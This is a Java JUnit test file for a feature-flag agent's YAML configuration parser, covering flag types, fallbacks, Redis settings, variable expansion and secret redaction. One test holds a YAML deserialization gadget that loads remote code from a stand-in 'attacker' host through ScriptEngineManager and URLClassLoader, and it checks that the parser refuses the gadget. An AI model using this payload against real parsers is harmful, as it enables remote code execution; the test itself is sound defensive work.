package dev.pancake.agent.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import dev.pancake.agent.log.Secrets;

class ConfigParserTest {

    /** The full example of pancake.yml, every section. */
    static final String FULL_EXAMPLE = """
            namespace: pancake
            redis:
              url: redis://localhost:6379/0
              timeout-ms: 100
            groups:
              user: com.example.web.RequestContext#CURRENT_USER.id
              tenant: com.example.web.RequestContext#currentTenant()
            flags:
              NEW_CHECKOUT:
                type: switch
                default: false
                fallback: throw
              BETA_SEARCH:
                type: flag
                default: false
                fallback: {call: legacySearch}
              RECOMMENDATIONS:
                type: sample
                default: 25
                sticky: user
                fallback: skip
                methods:
                  "com.example.Shop#recommendationCount": {return: 0}
            """;

    private static Config parse(String yaml) throws ConfigException {
        return ConfigParser.parse(yaml, "pancake.yml", Map.of("PASSWORD", "s3cret", "EMPTY", "", "PREFIX", "SHOP",
                "ROLLOUT", "40", "ON", "true")::get);
    }

    private static String problems(String yaml) {
        return assertThrows(ConfigException.class, () -> parse(yaml)).getMessage();
    }

    @Test
    void parsesTheSpecExample() throws Exception {
        Config c = parse(FULL_EXAMPLE);
        assertEquals("pancake", c.namespace());
        assertEquals("redis://localhost:6379/0", c.redis().url());
        assertEquals(100, c.redis().timeoutMs());
        assertEquals(List.of("user", "tenant"), c.groups().stream().map(GroupDef::name).toList());
        AccessorSpec user = c.group("user").accessor();
        assertEquals("com.example.web.RequestContext", user.className());
        assertEquals("CURRENT_USER", user.member());
        assertFalse(user.method());
        assertEquals(List.of("id"), user.properties());
        assertTrue(c.group("tenant").accessor().method());
        assertEquals(List.of("NEW_CHECKOUT", "BETA_SEARCH", "RECOMMENDATIONS"), List.copyOf(c.flags().keySet()));
        assertEquals(FallbackSpec.THROW, c.flag("NEW_CHECKOUT").fallback());
        assertEquals(new FallbackSpec.Call("legacySearch"), c.flag("BETA_SEARCH").fallback());
        FlagDef rec = c.flag("RECOMMENDATIONS");
        assertEquals(FlagType.SAMPLE, rec.type());
        assertEquals(25.0, rec.defaultPercent());
        assertEquals("user", rec.sticky());
        assertEquals(new FallbackSpec.Return(0L), rec.fallbackFor("com.example.Shop", "recommendationCount"));
        assertEquals(FallbackSpec.SKIP, rec.fallbackFor("com.example.Shop", "other"));
    }

    @Test
    void emptyFileMeansNoFlagsAndTheMemoryStore() throws Exception {
        Config c = parse("");
        assertNull(c.redis());
        assertTrue(c.flags().isEmpty());
        assertEquals("pancake", c.namespace());
    }

    @Test
    void flagNamesAreCaseInsensitiveAndStoredUpperCase() throws Exception {
        Config c = parse("flags:\n  new_checkout: {default: true}\n");
        assertTrue(c.flag("NEW_CHECKOUT").defaultActive());
        assertTrue(problems("flags:\n  a: {}\n  A: {}\n").contains("pancake.yml:3:3: flags.A: flag A is declared twice"));
    }

    @Test
    void typeIsInferredWhenNotWritten() throws Exception {
        Config c = parse("flags:\n  A: {default: true}\n  B: {default: 40}\n  C:\n");
        assertEquals(FlagType.SWITCH, c.flag("A").type());
        assertFalse(c.flag("A").typeDeclared());
        assertEquals(FlagType.SAMPLE, c.flag("B").type());
        assertEquals(FlagType.SWITCH, c.flag("C").type());
    }

    @Test
    void unknownKeysAreReportedWithLineAndColumn() {
        String m = problems("flags:\n  A:\n    defualt: true\n");
        assertTrue(m.contains("pancake.yml:3:5: flags.A.defualt: unknown key \"defualt\""), m);
    }

    @Test
    void wrongTypesNameTheKeyAndWhatWasExpected() {
        assertTrue(problems("flags:\n  A: {type: switch, default: maybe}\n")
                .contains("pancake.yml:2:30: flags.A.default: expected true or false, got \"maybe\""));
        assertTrue(problems("redis:\n  url: redis://x\n  timeout-ms: soon\n")
                .contains("pancake.yml:3:15: redis.timeout-ms: expected a whole number in 1..60000, got \"soon\""));
        assertTrue(problems("flags:\n  A: {type: toggle}\n").contains("expected switch, flag or sample, got \"toggle\""));
    }

    @Test
    void samplePercentMustBeInRange() {
        String m = problems("flags:\n  A: {type: sample, default: 150}\n");
        assertTrue(m.contains("flags.A.default: a sample's default is a percentage in 0..100, got \"150\""), m);
    }

    @Test
    void badFlagNamesAreRefused() {
        assertTrue(problems("flags:\n  \"NEW CHECKOUT\": {}\n").contains("a flag name must be letters"));
        assertTrue(problems("flags:\n  \"A:B\": {}\n").contains("a flag name must be letters"));
    }

    @Test
    void fallbacksOfEveryShape() throws Exception {
        Config c = parse("""
                flags:
                  A: {fallback: skip}
                  B: {fallback: throw}
                  C: {fallback: {return: "text"}}
                  D: {fallback: {return: 4.5}}
                  E: {fallback: {return: null}}
                  F: {fallback: {return: true}}
                  G: {fallback: {call: other}}
                """);
        assertEquals(FallbackSpec.SKIP, c.flag("A").fallback());
        assertEquals(FallbackSpec.THROW, c.flag("B").fallback());
        assertEquals(new FallbackSpec.Return("text"), c.flag("C").fallback());
        assertEquals(new FallbackSpec.Return(4.5), c.flag("D").fallback());
        assertEquals(new FallbackSpec.Return(null), c.flag("E").fallback());
        assertEquals(new FallbackSpec.Return(true), c.flag("F").fallback());
        assertEquals(new FallbackSpec.Call("other"), c.flag("G").fallback());
        assertTrue(problems("flags:\n  A: {fallback: ignore}\n").contains("expected skip, throw, {return: VALUE} or {call: methodName}"));
        assertTrue(problems("flags:\n  A: {fallback: {call: \"not a name\"}}\n").contains("expected the name of a method"));
    }

    @Test
    void stickyMustNameADeclaredGroupAndOnlySamplesAreSticky() {
        assertTrue(problems("flags:\n  A: {type: sample, sticky: user}\n").contains("expected a group declared under groups: (there are none)"));
        assertTrue(problems("groups:\n  user: a.B#C\nflags:\n  A: {type: switch, sticky: user}\n").contains("only a sample can be sticky"));
    }

    @Test
    void accessorSyntaxIsChecked() {
        assertTrue(problems("groups:\n  user: not an accessor\n").contains("groups.user: expected com.example.Class#FIELD"));
        assertTrue(problems("groups:\n  user: com.example.Ctx#user(x)\n").contains("groups.user: expected"));
    }

    @Test
    void environmentVariablesExpandAnywhere() throws Exception {
        Config c = parse("redis:\n  url: redis://:${PASSWORD}@host:6379\n  timeout-ms: ${TIMEOUT:-250}\n");
        assertEquals("redis://:s3cret@host:6379", c.redis().url());
        assertEquals(250, c.redis().timeoutMs());
        assertTrue(problems("redis:\n  url: redis://:${MISSING}@host\n").contains("environment variable MISSING is not set"));
        assertEquals("redis://x", parse("redis:\n  url: ${EMPTY:-redis://x}\n").redis().url());
    }

    @Test
    void anEmptyUrlMeansTheInMemoryStore() throws Exception {
        assertNull(parse("redis:\n  url: ${REDIS_URL:-}\n  timeout-ms: 50\n").redis());
        assertNull(parse("redis:\n  url: \"\"\n").redis());
    }

    @Test
    void secretsNeverAppearInMessages() {
        String m = problems("redis:\n  url: http://user:s3cret@host\n");
        assertFalse(m.contains("s3cret"), m);
        assertTrue(m.contains("user:***@host"), m);
    }

    @Test
    void yamlTagsThatWouldBuildObjectsAreRefused() {
        String gadget = "flags: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker/\"]]]]\n";
        String m = problems(gadget);
        assertTrue(m.startsWith("pancake.yml:1:8: "), m);
        assertTrue(m.contains("YAML tag tag:yaml.org,2002:javax.script.ScriptEngineManager is not allowed"), m);
    }

    @Test
    void anAccessorCannotReadTheClass() {
        String m = problems("groups:\n  user: com.example.Ctx#USER.class.classLoader\n");
        assertTrue(m.startsWith("pancake.yml:2:9: groups.user: an accessor cannot read .class (no reflection)"), m);
        m = problems("groups:\n  user: com.example.Ctx#USER.getClass().getClassLoader()\n");
        assertTrue(m.startsWith("pancake.yml:2:9: groups.user: expected com.example.Class#FIELD"), m);
    }

    @Test
    void aCaCertificateNeedsTls() throws Exception {
        assertEquals("/etc/ca.pem", parse("redis:\n  url: rediss://h:1\n  ca-cert: /etc/ca.pem\n").redis().caCert());
        assertEquals("/etc/ca.pem", parse("redis:\n  cluster: [\"h:1\"]\n  tls: true\n  ca-cert: /etc/ca.pem\n")
                .redis().caCert());
        assertNull(parse("redis:\n  url: rediss://h:1\n").redis().caCert());
        String m = problems("redis:\n  url: redis://h:1\n  ca-cert: /etc/ca.pem\n");
        assertTrue(m.startsWith("pancake.yml:3:12: redis.ca-cert: a CA certificate is only used with TLS"), m);
    }

    @Test
    void passwordsWithAtSignsAndSlashesAreRedactedWhole() {
        assertEquals("redis://user:***@host:1/0", Secrets.redactUrl("redis://user:p@ss/w@rd@host:1/0"));
        assertEquals("cannot reach Redis rediss://***@h:1 (refused); also redis://u:***@x",
                Secrets.redactUrl("cannot reach Redis rediss://t0ken@h:1 (refused); also redis://u:v@x"));
        assertEquals("redis://host:1/0", Secrets.redactUrl("redis://host:1/0"));
        String m = problems("redis:\n  url: http://user:p@ss@host\n");
        assertFalse(m.contains("p@ss") || m.contains("ss@host"), m);
    }

    @Test
    void controlCharactersAndDeepNestingAreReportedWithTheirLine() {
        String m = problems("flags:\n  A: {}\n  \uD83D\uDE00B\u0007: {}\n");
        assertEquals("pancake.yml:3:5: not valid YAML: character U+0007 is not allowed (write it as an escape in double"
                + " quotes)", m);
        m = problems("flags:\n  A: {}\n  B: " + "[".repeat(30) + "]".repeat(30) + "\n");
        assertTrue(m.startsWith("pancake.yml:3:"), m);
        assertTrue(m.endsWith(": not valid YAML: nested deeper than 20 levels"), m);
    }

    @Test
    void syntaxErrorsHaveLineAndColumn() {
        String m = problems("flags:\n  A: {default: true\n  B: {}\n");
        assertTrue(m.startsWith("pancake.yml:3:"), m);
        assertTrue(m.contains("not valid YAML"), m);
    }

    @Test
    void exactlyOneKindOfRedis() {
        assertTrue(problems("redis:\n  timeout-ms: 5\n").contains("expected one of url, sentinel or cluster"));
        assertTrue(problems("redis:\n  url: redis://a\n  cluster: [\"a:1\"]\n").contains("expected only one of"));
    }

    @Test
    void adminNeedsAPortAndALongEnoughToken() throws Exception {
        Config c = parse("admin: {port: 8081, token: abcdefgh}\n");
        assertEquals(8081, c.admin().port());
        assertEquals("127.0.0.1", c.admin().bind());
        assertTrue(problems("admin: {port: 8081, token: short}\n").contains("admin.token: expected at least 8 characters"));
    }

    @Test
    void environmentVariablesExpandInKeysToo() throws Exception {
        Config c = parse("flags:\n  ${PREFIX}_CHECKOUT: {default: true}\n");
        assertTrue(c.flag("SHOP_CHECKOUT").defaultActive());
        assertTrue(problems("flags:\n  ${NOPE}_X: {}\n").contains("pancake.yml:2:3: flags.${NOPE}_X: environment variable"
                + " NOPE is not set"));
    }

    @Test
    void anExpandedValueIsTypedAfterExpansion() throws Exception {
        Config c = parse("""
                flags:
                  A:
                    default: ${ROLLOUT}
                  B: {default: "${ON}"}
                  C:
                    default: ${OFF:-false}
                  D: {fallback: {return: "${ROLLOUT}"}}
                  E: {fallback: {return: "40"}}
                """);
        assertEquals(FlagType.SAMPLE, c.flag("A").type());
        assertEquals(40.0, c.flag("A").defaultPercent());
        assertTrue(c.flag("B").defaultActive());
        assertFalse(c.flag("C").defaultActive());
        assertEquals(new FallbackSpec.Return(40L), c.flag("D").fallback());
        assertEquals(new FallbackSpec.Return("40"), c.flag("E").fallback(), "quoted without a variable: text");
        assertEquals(new FallbackSpec.Return("${ROLLOUT}"), parse("flags:\n  D: {fallback: {return: \"$${ROLLOUT}\"}}\n")
                .flag("D").fallback(), "$$ is a literal $");
    }

    @Test
    void perMethodFallbacksAreParsedAndChecked() throws Exception {
        Config c = parse("""
                flags:
                  F:
                    fallback: throw
                    methods:
                      "com.example.Shop#count": {return: 0}
                      com.example.Shop$Inner#search: {call: legacySearch}
                """);
        FlagDef f = c.flag("F");
        assertEquals(new FallbackSpec.Return(0L), f.fallbackFor("com.example.Shop", "count"));
        assertEquals(new FallbackSpec.Call("legacySearch"), f.fallbackFor("com.example.Shop$Inner", "search"));
        assertEquals(FallbackSpec.THROW, f.fallbackFor("com.example.Shop", "other"));
        assertTrue(problems("flags:\n  F:\n    methods:\n      \"Shop.count\": skip\n")
                .contains("pancake.yml:4:7: flags.F.methods.Shop.count: expected com.example.Class#method, got \"Shop.count\""));
        assertTrue(problems("flags:\n  F:\n    methods:\n      \"a.B#c\": {return: [1, 2]}\n")
                .contains("pancake.yml:4:25: flags.F.methods.a.B#c.return: expected a single value"));
    }

    @Test
    void aFallbackHasExactlyOneForm() {
        assertTrue(problems("flags:\n  A: {fallback: {return: 1, call: x}}\n")
                .contains("pancake.yml:2:17: flags.A.fallback: expected skip, throw, {return: VALUE} or {call: methodName}"));
        assertTrue(problems("flags:\n  A: {fallback: {raise: x}}\n")
                .contains("flags.A.fallback: expected skip, throw, {return: VALUE} or {call: methodName}, got {raise: ...}"));
    }

    @Test
    void defaultsMustMatchTheType() {
        assertTrue(problems("flags:\n  A: {type: flag, default: 3}\n")
                .contains("pancake.yml:2:28: flags.A.default: expected true or false, got \"3\""));
        assertTrue(problems("flags:\n  A: {type: sample, default: yes}\n")
                .contains("flags.A.default: expected a number, got \"yes\""));
        assertTrue(problems("flags:\n  A: {default: -5}\n")
                .contains("flags.A.default: a sample's default is a percentage in 0..100, got \"-5\""));
        assertTrue(problems("flags:\n  A: {type: flags}\n").contains("expected switch, flag or sample, got \"flags\""));
    }

    @Test
    void unknownTopLevelKeysAndBadNamesAreReportedWithTheirLine() {
        assertTrue(problems("namespace: pancake\nflag:\n  A: {}\n")
                .contains("pancake.yml:2:1: flag: unknown key \"flag\"; expected one of [admin, app, flags, groups, namespace, redis]"));
        assertTrue(problems("namespace: \"my app\"\n").contains("pancake.yml:1:12: namespace: expected letters, digits"));
        assertTrue(problems("groups:\n  \"a:b\": x.Y#Z\n").contains("pancake.yml:2:3: groups.a:b: a group name must be"));
    }

    @Test
    void everyProblemIsReportedAtOnce() {
        String m = problems("flags:\n  A: {defualt: true}\n  B: {type: sample, default: 101}\n  C: {fallback: nope}\n");
        assertEquals(3, m.lines().count(), m);
        assertTrue(m.lines().allMatch(l -> l.startsWith("pancake.yml:")), m);
    }
}
